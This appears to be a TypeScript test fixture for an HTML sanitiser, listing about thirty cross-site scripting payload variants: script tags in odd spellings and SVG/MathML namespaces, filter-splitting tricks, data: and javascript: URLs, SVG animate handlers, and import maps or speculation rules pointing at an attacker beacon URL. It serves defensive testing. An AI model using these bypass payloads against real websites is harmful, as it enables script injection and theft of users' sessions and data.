import { casesOf } from '../article-page';
import { beaconPath, beaconUrl, canaryCall, canaryScript } from '../canary';
import type { PayloadSpec } from '../types';

/** `<script>` in every namespace and every spelling the HTML parser still turns into a script. */
function specs(): PayloadSpec[] {
  const list: PayloadSpec[] = [];
  const add = (suffix: string, vector: string, body: (id: string) => string, placement?: 'inline' | 'block') => {
    const id = `script-${suffix}`;
    list.push({ id, vector, body: body(id), placement });
  };
  add('plain', 'inline <script> in the article body', (id) => `<script>${canaryScript(id)}</script>`);
  add('inline-in-paragraph', '<script> inside paragraph text', (id) => `<script>${canaryScript(id)}</script>`, 'inline');
  add('uppercase', 'upper-case <SCRIPT>', (id) => `<SCRIPT>${canaryScript(id)}</SCRIPT>`);
  add('src-attacker', 'external script from the attacker', (id) => `<script src="${beaconUrl(id, 'x.js')}"></script>`);
  add('src-scheme-relative', 'scheme-relative external script', (id) => `<script src="${beaconPath(id, 'x.js')}"></script>`);
  add('module', 'module script with import', (id) => `<script type="module">import '${beaconUrl(id, 'm.js')}';${canaryScript(id)}</script>`);
  add('data-src', 'script src as a data: URL', (id) => `<script src="data:text/javascript,${encodeURIComponent(canaryScript(id))}"></script>`);
  add('slash-attribute', '<script/x> parser quirk', (id) => `<script/x>${canaryScript(id)}</script>`);
  add('newline-in-tag', 'newline inside the start tag', (id) => `<script\n>${canaryScript(id)}</script\n>`);
  add('split-by-removal', 'tags that reassemble when a filter strips the inner one', (id) => `<scr<script>x</script>ipt>${canaryScript(id)}</scr<script>x</script>ipt>`);
  add('in-table', 'script inside table structure (foster parenting)', (id) => `<table><tr><td>cell</td><script>${canaryScript(id)}</script></tr></table>`);
  add('in-select', 'script inside select', (id) => `<select><option>a</option><script>${canaryScript(id)}</script></select>`);
  add('svg', '<script> in the SVG namespace', (id) => `<svg><script>${canaryScript(id)}</script></svg>`);
  add('svg-href', 'SVG script with href to the attacker', (id) => `<svg><script href="${beaconUrl(id, 'svg.js')}"></script></svg>`);
  add('svg-xlink-href', 'SVG script with xlink:href data: URL', (id) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="data:,${encodeURIComponent(canaryScript(id))}"></script></svg>`);
  add('svg-cdata', 'SVG script with CDATA body', (id) => `<svg><script><![CDATA[${canaryScript(id)}]]></script></svg>`);
  add('svg-foreignobject', 'HTML script inside SVG foreignObject', (id) => `<svg><foreignObject><script>${canaryScript(id)}</script></foreignObject></svg>`);
  add('svg-desc', 'script inside SVG desc (HTML integration point)', (id) => `<svg><desc><script>${canaryScript(id)}</script></desc></svg>`);
  add('svg-title', 'script inside SVG title (HTML integration point)', (id) => `<svg><title><script>${canaryScript(id)}</script></title></svg>`);
  add('math', '<script> under <math> (MathML namespace)', (id) => `<math><script>${canaryScript(id)}</script></math>`);
  add('math-mtext', 'HTML script inside mtext (text integration point)', (id) => `<math><mtext><script>${canaryScript(id)}</script></mtext></math>`);
  add('math-annotation-xml', 'HTML script inside annotation-xml encoding=text/html', (id) => `<math><annotation-xml encoding="text/html"><script>${canaryScript(id)}</script></annotation-xml></math>`);
  add('xhtml-prefixed', 'namespace-prefixed x:script', (id) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${canaryScript(id)}</x:script>`);
  add('template', 'script inside template content', (id) => `<template><script>${canaryScript(id)}</script></template>`);
  add('noscript', 'script inside noscript', (id) => `<noscript><script>${canaryScript(id)}</script></noscript>`);
  add('for-event', 'legacy script for/event attributes', (id) => `<script for="window" event="onload">${canaryScript(id)}</script>`);
  add('svg-animate-href', 'SVG animate turning a link into javascript:', (id) => `<svg><a><animate attributeName="href" values="javascript:${canaryCall(id)}" begin="0s"/><text x="20" y="20">Read more</text></a></svg>`);
  add('svg-set-onload', 'SVG set writing an event handler', (id) => `<svg><set attributeName="onload" to="${canaryCall(id)}"/></svg>`);
  add('svg-handler', 'SVG Tiny handler element', (id) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${canaryScript(id)}</handler></svg>`);
  add('import-map', 'import map redirecting module loads', (id) => `<script type="importmap">{"imports":{"react":"${beaconUrl(id, 'react.js')}"}}</script>`);
  add('speculation-rules', 'speculation rules prefetching the attacker', (id) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${beaconUrl(id, 'prefetch')}"]}]}</script>`);
  return list;
}

export const scriptCases = casesOf('script', specs());
